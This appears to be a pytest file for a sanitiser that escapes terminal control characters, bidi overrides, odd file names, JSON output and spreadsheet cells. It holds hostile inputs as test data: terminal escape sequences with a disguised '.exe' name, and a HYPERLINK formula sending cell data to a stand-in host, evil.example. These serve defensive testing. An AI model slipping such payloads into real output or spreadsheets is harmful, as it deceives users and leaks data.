"""The sanitiser (auditor/sanitize.py): expected strings written by hand from the escaping rules."""

from __future__ import annotations

import json
import os

import pytest

from auditor.sanitize import display_path, json_text, one_line, spreadsheet_cell, terminal_text

ATTACK = "a\x1b]0;pwned\x07\x1b[2J\rX\u009b31m\u202egnp.exe\u2066\u2028\x7f"


def test_terminal_text_escapes_controls_c1_bidi_and_separators():
    assert terminal_text(ATTACK) == ("a\\x1b]0;pwned\\x07\\x1b[2J\\rX\\x9b31m\\u202egnp.exe\\u2066\\u2028\\x7f")


def test_terminal_text_keeps_newlines_tabs_and_ordinary_unicode():
    text = "SDK\tpurpose\n极光推送 — Jüß ✓ 🚀\n"
    assert terminal_text(text) == text


def test_non_utf8_file_name_bytes_show_as_bytes():
    name = os.fsdecode(b"/tmp/bad\xff\xfe.apk")
    assert terminal_text(name) == "/tmp/bad\\xff\\xfe.apk"
    assert display_path(b"/tmp/bad\xff\xfe.apk") == "/tmp/bad\\xff\\xfe.apk"
    assert terminal_text("\ud800") == "\\ud800"  # a surrogate that is not a decoded byte
    terminal_text(name).encode("utf-8")  # always encodable


def test_one_line_folds_whitespace_escapes_the_rest_and_caps_length():
    assert one_line("error:\n  bad\tthing\r\n\x1b[31m") == "error: bad thing\\r \\x1b[31m"
    assert one_line("x" * 600, limit=100) == "x" * 97 + "..."


@pytest.mark.parametrize("value", [ATTACK, os.fsdecode(b"bad\xff.apk"), "plain", "极光", "a\u2029b", "\x00\x1f"])
def test_json_text_is_exact_and_terminal_safe(value):
    document = json.dumps({"name": value, "list": [value, 1, None]}, ensure_ascii=False)
    safe = json_text(document)
    assert json.loads(safe) == {"name": value, "list": [value, 1, None]}
    assert not any(0x7F <= ord(ch) <= 0x9F or ch in "\u202e\u2066\u2028\u2029\x1b" for ch in safe)
    assert not any(0xD800 <= ord(ch) <= 0xDFFF for ch in safe)
    safe.encode("utf-8")


def test_json_text_round_trips_a_non_utf8_file_name_to_its_bytes():
    raw = b"/builds/bad\xff\xfe.apk"
    document = json_text(json.dumps({"path": os.fsdecode(raw)}, ensure_ascii=False))
    assert '"/builds/bad\\udcff\\udcfe.apk"' in document
    assert os.fsencode(json.loads(document)["path"]) == raw


@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tx", "\rx", "\nx", "\x00x", "\uff1d1+1"])
def test_spreadsheet_cells_that_would_run_are_neutralised(cell):
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["com.example.app", "a=b", "1.0", "", "极光推送", "x-y"])
def test_ordinary_text_cells_are_kept(cell):
    assert spreadsheet_cell(cell) == cell


def test_numbers_are_kept_even_when_negative():
    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(None) is None
